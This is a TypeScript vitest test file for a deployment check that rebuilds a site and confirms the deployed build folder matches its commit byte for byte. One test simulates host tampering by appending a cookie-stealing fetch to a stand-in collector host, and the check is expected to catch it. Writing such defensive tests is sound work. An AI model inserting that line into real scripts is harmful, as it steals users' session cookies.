import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { build } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sourceCommit } from '../../contracts/build-stamp';
import { PROJECT_ROOT } from '../../local-stack/paths';
import { buildFolderOutcome, filesOf, folderStampOf, rebuildOf, type FolderStamp } from '../../scripts/check-deployment/build-folder';

/**
 * check:deployment's line "build folder ... is what its commit builds" (decision 023, session 29): `--build-dir` was
 * trusted, so a folder downloaded from a hacked host made the build lines compare the host with itself. Here a real
 * build of this checkout, and the check's own rebuild of it in another folder.
 */
const SETTINGS = {
  VITE_SUPABASE_URL: 'https://abcdefghijklmnopqrst.supabase.co',
  VITE_SUPABASE_ANON_KEY: 'sb_publishable_abcdefghijklmnopqrstuvwxyz012345',
  VITE_VISUALIZER_WEBHOOK_URL: 'https://processor.haddon-floorworks.test/',
  VITE_SITE_URL: 'https://www.haddon-floorworks.test',
  VITE_BUSINESS_PHONE: '(856) 555-0142',
};
let scratch: string;
let folder: string;
const checkoutCommit = () => sourceCommit(PROJECT_ROOT, {});

/** A copy of the build, changed by `change` (what a folder mirrored from a changed host holds). */
function copyOf(name: string, change: (copy: string) => void): string {
  const copy = path.join(scratch, name);
  fs.cpSync(folder, copy, { recursive: true });
  change(copy);
  return copy;
}

async function lineFor(dir: string) {
  const stamp = folderStampOf(dir);
  if (typeof stamp === 'string') return buildFolderOutcome(dir, stamp, { skipped: '' });
  const rebuild = await rebuildOf(PROJECT_ROOT, stamp, checkoutCommit());
  return buildFolderOutcome(dir, stamp, rebuild, 'files' in rebuild ? filesOf(dir) : undefined);
}

beforeAll(async () => {
  scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'build-folder-line-'));
  folder = path.join(scratch, 'dist');
  const before = { ...process.env };
  // As an owner builds it: this checkout's commit (with its uncommitted changes, if any), the settings, no .env file.
  Object.assign(process.env, SETTINGS, { SOURCE_COMMIT: checkoutCommit(), NODE_ENV: 'production' });
  try {
    await build({ root: PROJECT_ROOT, logLevel: 'error', envDir: false, build: { outDir: folder, emptyOutDir: true } });
  } finally {
    process.env = before;
  }
}, 600_000);
afterAll(() => {
  if (scratch) fs.rmSync(scratch, { recursive: true, force: true });
});

describe('the build folder check:deployment holds the host to', () => {
  it("passes the folder the commit builds, rebuilt from the checkout's git in another folder", async () => {
    const stamp = folderStampOf(folder) as FolderStamp;
    expect(stamp.settings).toEqual(SETTINGS);
    const outcome = await lineFor(folder);
    expect(outcome.detail).toMatch(new RegExp(`^${folder.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}/ is byte for byte the build of [0-9a-f]{12}.* with the 5 settings its stamp names: its \\d+ files, none more or less \\((rebuilt from this checkout's git in \\d+ s|compared with the rebuild kept in .+)\\)$`));
    expect(outcome.ok).toBe(true);
  }, 600_000);

  it('fails a copy of the folder whose script a host changed in place, naming the file', async () => {
    const { entry } = JSON.parse(fs.readFileSync(path.join(folder, 'build-stamp.json'), 'utf8')) as { entry: string };
    const mirrored = copyOf('mirrored', (copy) => fs.appendFileSync(path.join(copy, entry), '\n;fetch("https://collector.example/"+document.cookie);'));
    const outcome = await lineFor(mirrored);
    expect(outcome.ok).toBe(false);
    expect(outcome.detail).toContain(`${entry.slice(1)} differs (compared with the rebuild kept in`);
    expect(outcome.detail).toContain('a folder downloaded from the host, or changed after the build, makes the lines below compare the host with itself');
  }, 600_000);

  it("fails a file the build does not make, and one of the build's missing", async () => {
    const changed = copyOf('changed', (copy) => {
      fs.writeFileSync(path.join(copy, '.env'), 'SUPABASE_SERVICE_ROLE_KEY=sb_secret_x\n');
      fs.rmSync(path.join(copy, 'robots.txt'));
    });
    expect((await lineFor(changed)).detail).toMatch(/: robots\.txt is missing; \.env is not the build's \(/);
  }, 600_000);

  it('fails a folder whose stamp names other settings than it was built with', async () => {
    const restamped = copyOf('restamped', (copy) => {
      const file = path.join(copy, 'build-stamp.json');
      const stamp = JSON.parse(fs.readFileSync(file, 'utf8'));
      fs.writeFileSync(file, JSON.stringify({ ...stamp, settings: { ...stamp.settings, VITE_BUSINESS_PHONE: '(856) 555-0199' } }));
    });
    const outcome = await lineFor(restamped);
    expect(outcome.ok).toBe(false);
    expect(outcome.detail).toMatch(/ is not the build of .* with the 5 settings its stamp names: .* differ/);
  }, 600_000);

  it("fails a folder built under a NODE_ENV that is not production (React's development build), with no stamp of its settings, of no commit, or of changes no commit holds", async () => {
    const unstamped = copyOf('unstamped', (copy) => fs.rmSync(path.join(copy, 'build-stamp.json')));
    expect(await lineFor(unstamped)).toEqual({
      ok: false,
      detail: `${unstamped}/ has no build-stamp.json, so what it holds is not known to be any commit's build, and the lines that hold the host to it would hold it to whatever the folder holds (a copy downloaded from the host passes them all); build the site from this checkout (npm run build) and name its dist/ with --build-dir`,
    });
    const stamp = { commit: 'unknown', mode: 'production', settings: {} };
    expect(await rebuildOf(PROJECT_ROOT, { ...stamp, commit: checkoutCommit(), nodeEnv: 'test' }, checkoutCommit())).toEqual({
      failed: expect.stringMatching(/^the folder was built with NODE_ENV=test, which makes React's development build/),
    });
    expect(await rebuildOf(PROJECT_ROOT, stamp, checkoutCommit())).toEqual({ failed: expect.stringMatching(/^the folder's stamp names no commit/) });
    expect(await rebuildOf(PROJECT_ROOT, { ...stamp, commit: '0123456789abcdef0123456789abcdef01234567-modified' }, '0123456789abcdef0123456789abcdef01234567')).toEqual({
      failed: expect.stringMatching(/^the folder was built from 0123456789ab with uncommitted changes that this checkout no longer has/),
    });
    expect(await rebuildOf(PROJECT_ROOT, { ...stamp, commit: 'fedcba9876543210fedcba9876543210fedcba98' }, checkoutCommit())).toEqual({
      skipped: expect.stringMatching(/^this checkout does not have the commit fedcba987654 the folder names/),
    });
  });
});
